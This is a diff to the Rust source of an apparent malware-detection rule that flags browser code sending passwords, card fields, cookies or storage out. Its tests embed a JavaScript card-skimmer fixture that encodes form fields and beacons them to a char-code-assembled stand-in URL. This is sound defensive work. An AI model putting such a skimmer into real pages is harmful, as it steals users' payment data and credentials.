@@ -1,7 +1,8 @@
 //! `code/browser-data-theft`.
 
-use super::{SENDS, chain, finding, locality};
+use super::{SENDS, chain, describe, exfil_destination, finding, flow_finding, flows, locality};
 use crate::CodeFinding;
+use crate::flow::{FlowPath, SinkKind, SourceKind};
 use crate::signal::{FileFacts, Kind, PackageFacts};
 use diligence_finding::Severity;
 use std::collections::BTreeSet;
@@ -10,9 +11,14 @@ diligence_finding::declare_rule! {
     /// Browser code reads cookies, web storage, form inputs or password/card fields and sends data out.
     ///
     /// ## What it detects
-    /// `document.cookie` reads, `localStorage`/`sessionStorage` enumeration, form/input enumeration and
-    /// password/card-number selectors, together with a send (`fetch`, XHR, WebSocket, `navigator.sendBeacon`, or an
-    /// `img`/`script` element whose `src` is set) in the same file or package.
+    /// A value-flow path from browser data to a send (`fetch`, XHR, WebSocket, `navigator.sendBeacon`, jQuery ajax,
+    /// an `img`/`script`/`iframe` element's `src`, `location`): password and payment-card fields, key strokes,
+    /// form inputs (`querySelectorAll('input')`, `FormData`, `submit`/`change` events), the cookie jar, web
+    /// storage, the clipboard, wallet-provider answers — through variables, encoders, callbacks, helpers and
+    /// modules. With a hard-coded destination: critical for password/card fields or key strokes, for two kinds
+    /// of data, or for an exfiltration-style endpoint; high for the whole cookie jar, a storage dump or the
+    /// clipboard; medium for form inputs alone. Without a complete path: cookies, storage, forms or sensitive
+    /// fields read with a send in the same file or package.
     ///
     /// ## Why it matters
     /// Gilbertson's "I'm harvesting credit card numbers and passwords from your site" (2018) and real Magecart-style
@@ -25,7 +31,10 @@ diligence_finding::declare_rule! {
     /// Analytics and consent libraries read cookies and send beacons; they read named cookies, not the whole
     /// jar plus storage. The rule needs a read and a send; a read alone (cookie parsers) is not reported.
     /// Bundles (devtools, dev servers) hold storage reads and unrelated sends in different functions of one
-    /// file: the read and the send must share a function for high or critical.
+    /// file: the read and the send must share a function for high or critical. Form serialisers and API
+    /// clients send to the URL their caller passes (`form.action`, a base URL option): a path to a
+    /// destination that is not constant is medium for password fields and not reported otherwise. Analytics
+    /// read their own cookie (`document.cookie.split(';')…`) or a named storage entry: low.
     pub static BROWSER_DATA_THEFT = { id: "code/browser-data-theft", severity: Severity::Critical };
 }
 
@@ -46,11 +55,18 @@ const READS: &[Kind] = &[
 /// read a setting from `localStorage` and an unrelated module sets an `iframe`'s `src`), two
 /// kinds of reads are medium and one kind is not reported.
 pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
+    let traced = paths(p);
     let mut out = Vec::new();
     for f in &p.files {
         let Some(s) = f.signals.iter().find(|s| READS.contains(&s.kind)) else {
             continue;
         };
+        if traced
+            .iter()
+            .any(|t| t.file == f.path || t.evidence.first().is_some_and(|e| e.file == f.path))
+        {
+            continue;
+        }
         let kinds: BTreeSet<&str> = f
             .signals
             .iter()
@@ -86,7 +102,64 @@ pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
             chain(p, f, s, &[Kind::BrowserSend, Kind::Network]),
         ));
     }
-    out
+    let mut all = traced;
+    all.append(&mut out);
+    all
+}
+
+const SOURCES: &[SourceKind] = &[
+    SourceKind::Password,
+    SourceKind::Keystrokes,
+    SourceKind::FormInput,
+    SourceKind::Cookie,
+    SourceKind::Storage,
+    SourceKind::Clipboard,
+    SourceKind::Wallet,
+];
+
+/// How much a path's browser data says: 3 for what the user types or copies (passwords, card
+/// fields, key strokes, the clipboard), 2 for whole stores (the cookie jar, a storage dump),
+/// 1 for form inputs, 0 for one named entry.
+fn weight(path: &FlowPath) -> u8 {
+    match path.source {
+        SourceKind::Password | SourceKind::Keystrokes => 3,
+        // Analytics parse their own cookie out of the jar first; a stealer encodes the jar.
+        SourceKind::Cookie if path.steps.first().is_none_or(|s| s.what != "parsed") => 2,
+        SourceKind::Storage if !path.from.what.contains("getItem('") => 2,
+        SourceKind::Clipboard => 3,
+        SourceKind::FormInput => 1,
+        _ => 0,
+    }
+}
+
+/// One finding per path from browser data to a send.
+fn paths(p: &PackageFacts) -> Vec<CodeFinding> {
+    let kinds: BTreeSet<SourceKind> = flows(p, SOURCES, &[SinkKind::Network])
+        .filter(|f| f.dest.is_some() && weight(f) >= 1)
+        .map(|f| f.source)
+        .collect();
+    let mut out = Vec::new();
+    for path in flows(p, SOURCES, &[SinkKind::Network]).take(20) {
+        let w = weight(path);
+        let sev = match (path.dest.is_some(), w) {
+            (true, _) if exfil_destination(path.dest.as_deref()) => Severity::Critical,
+            (true, 3) => Severity::Critical,
+            (true, 1 | 2) if kinds.len() >= 2 => Severity::Critical,
+            (true, 2) => Severity::High,
+            (true, 1) => Severity::Medium,
+            (true, _) => Severity::Low,
+            (false, 3) => Severity::Medium,
+            (false, _) => continue,
+        };
+        out.push(flow_finding(
+            &BROWSER_DATA_THEFT,
+            sev,
+            p,
+            path,
+            format!("browser data is sent out: {}", describe(path)),
+        ));
+    }
+    super::one_per_sink(out)
 }
 
 /// `(beacon, network)` sends found in a function that also reads browser data (either flag
@@ -122,7 +195,7 @@ mod tests {
         ]);
         assert_eq!(
             hits(&s, "code/browser-data-theft"),
-            vec![("m.js".to_string(), 2)]
+            vec![("m.js".to_string(), 4)]
         );
     }
 
@@ -149,8 +222,44 @@ mod tests {
         ]);
         assert_eq!(
             hits(&s, "code/browser-data-theft"),
-            vec![("f.js".to_string(), 2)]
+            vec![("f.js".to_string(), 4)]
         );
+    }
+
+    /// The 2018 harvester shape: card and password fields read on submit, the page's host
+    /// checked first, the data encoded and sent to a URL assembled from char codes.
+    #[test]
+    fn positive_card_fields_on_submit_to_an_assembled_url() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "dist/ui.js",
+                "const H = String.fromCharCode(104, 116, 116, 112, 115, 58, 47, 47, 120, 46, 101, 120, 97, 109, 112, 108, 101, 47, 99);\nfunction grab(form) {\n  const rows = [];\n  for (const el of form.querySelectorAll('input[name*=card], input[type=password]')) rows.push(el.name + '=' + el.value);\n  return btoa(rows.join('&'));\n}\nif (location.hostname !== 'localhost') {\n  document.addEventListener('submit', (e) => {\n    const img = new Image();\n    img.src = H + '?d=' + grab(e.target);\n  });\n}\n",
+            ),
+        ]);
+        let f = s
+            .findings
+            .iter()
+            .find(|f| f.rule == "code/browser-data-theft")
+            .expect("a finding");
+        assert_eq!(
+            (f.line, f.severity),
+            (10, diligence_finding::Severity::Critical)
+        );
+        assert_eq!(s.verdict, crate::Verdict::Malicious);
+    }
+
+    /// A form library posts the form to its `action`: no hard-coded destination.
+    #[test]
+    fn negative_form_serialiser_posts_to_its_action() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "form.js",
+                "export function serialize(form) {\n  return new URLSearchParams(new FormData(form)).toString();\n}\nexport function submit(form) {\n  return fetch(form.action, { method: 'POST', body: serialize(form) });\n}\ndocument.addEventListener('submit', (e) => { e.preventDefault(); submit(e.target); });\n",
+            ),
+        ]);
+        assert_eq!(s.verdict, crate::Verdict::Clean, "{:?}", s.findings);
     }
 
     /// react-devtools-core's standalone bundle: one module reads a setting from `localStorage`,
